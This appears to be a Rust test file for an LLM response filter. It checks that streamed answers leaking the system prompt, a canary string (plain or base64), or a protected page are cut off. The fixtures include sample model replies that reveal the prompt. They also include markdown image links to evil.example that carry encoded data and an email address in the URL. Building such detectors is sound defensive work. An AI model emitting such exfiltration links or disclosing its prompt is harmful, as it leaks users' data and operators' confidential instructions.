//! What an answer must not carry out, end to end: the conversation's own prompt, planted strings, data in
//! images, protected documents, however the upstream cuts its stream.

use std::sync::Arc;

use detect::{Corpus, DetectSettings};
use testkit::Request;

use crate::bed::{Bed, Canned, Plan};

const PROMPT: &str = "You are Juno, the night clerk of the Harbour Hotel. Never mention the strike of the kitchen staff to \
    guests. If somebody asks for a late checkout, offer one hour for free and charge fifteen euros for each hour after that.";
const CANARY: &str = "plover-4417-quartz";
const PAGE: &str = "The lamp of the harbour is lit at dusk by the keeper, who writes the hour and the weather into a blue book. \
    Whoever finds the lamp dark must ring the bell twice and wake the pilot at once, even if the sea is calm and no ship is \
    expected before morning. Oil is measured on the first day of each month in the presence of two witnesses, and what is missing \
    is paid by the one who held the key.";

fn bed(upstream: &Canned) -> Bed {
    let mut corpus = Corpus::default();
    corpus.add("page", PAGE).expect("it fits");
    // The score has an opinion about such answers too; it is not what is tested here.
    let detect = DetectSettings::default().without("linear_score").expect("it exists");
    let detect = detect.with_canary(CANARY).expect("a canary");
    let plan = Plan { detect: detect.protecting(Arc::new(corpus)), ..Plan::default() };
    Bed::new(&upstream.base_url, plan)
}

fn ask() -> Request {
    let body = serde_json::json!({
        "model": "m", "stream": true,
        "messages": [
            { "role": "system", "content": PROMPT },
            { "role": "user", "content": "Good evening!" },
        ],
    });
    Request::post("/v1/chat/completions", body.to_string())
        .with_header("content-type", "application/json")
}

/// A stream that says `text`, `step` characters at a time.
fn stream(text: &str, step: usize) -> String {
    let characters: Vec<char> = text.chars().collect();
    let mut out = String::new();
    for piece in characters.chunks(step) {
        let piece: String = piece.iter().collect();
        let event = serde_json::json!({
            "id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m",
            "choices": [{ "index": 0, "delta": { "content": piece }, "finish_reason": null }],
        });
        out.extend(["data: ", &event.to_string(), "\n\n"]);
    }
    out.push_str("data: {\"id\":\"c\",\"object\":\"chat.completion.chunk\",\"created\":1,\"model\":\"m\",\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n");
    out
}

/// What the client reads, whatever the pieces.
fn said(body: &str) -> String {
    let events = body.lines().filter_map(|line| line.strip_prefix("data: "));
    let values = events.filter_map(|event| serde_json::from_str::<serde_json::Value>(event).ok());
    let pieces = values
        .filter_map(|value| Some(value.pointer("/choices/0/delta/content")?.as_str()?.to_owned()));
    pieces.collect()
}

/// `text` is answered cut in many ways: the client reads `expect`, and a finding of `kind` is on record.
#[track_caller]
fn check(text: &str, expect: &str, kind: &str) {
    let upstream = Canned::start();
    let bed = bed(&upstream);
    let steps = [1, 2, 3, 5, 7, 11, 64, 10_000];
    for step in steps {
        upstream.answer("text/event-stream", stream(text, step));
        let response = bed.client().send(&ask()).expect("an answer");
        assert_eq!(response.status, 200, "{}", response.text());
        assert_eq!(said(&response.text()), expect, "in steps of {step}");
    }
    for closed in bed.closed(steps.len()) {
        let kinds: Vec<_> =
            closed.findings.iter().map(|found| found.finding.kind.as_str()).collect();
        assert!(kinds.contains(&kind), "{kinds:?}");
    }
}

#[test]
fn the_prompt_is_not_given_away_in_a_stream_cut_anywhere() {
    check(&format!("Of course! My rules: {PROMPT}"), "Of course! My rules: ", "leak.system_prompt");
}

#[test]
fn a_canary_over_several_chunks_stops_the_answer() {
    check(&format!("The word is {CANARY}, friend."), "The word is ", "canary.verbatim");
    let hidden = data_encoding::BASE64.encode(CANARY.as_bytes());
    check(&format!("The word is {hidden} friend."), "The word is ", "canary.encoded");
}

#[test]
fn an_image_that_carries_data_out_never_reaches_the_client() {
    check(
        "Done. ![x](https://evil.example/p.png?d=bWVldCBhdCBtaWRuaWdodCB0b2RheQ) Bye.",
        "Done. [IMAGE REMOVED] Bye.",
        "exfiltration.image",
    );
    check(
        "Done. ![x](https://evil.example/p.png?d=eve.model%40example.net) Bye.",
        "Done. ",
        "exfiltration.image",
    );
}

#[test]
fn a_protected_document_is_not_repeated() {
    let upstream = Canned::start();
    let bed = bed(&upstream);
    for step in [1, 7, 10_000] {
        upstream.answer("text/event-stream", stream(&format!("It says: {PAGE}"), step));
        let text = said(&bed.client().send(&ask()).expect("an answer").text());
        // The first words are shown before the passage is recognised.
        assert!(text.len() < 100, "{text:?}");
    }
    let closed = bed.closed(3);
    assert!(closed.iter().all(|closed| {
        closed.findings.iter().any(|found| found.finding.kind.as_str() == "regurgitation.page")
    }));
}
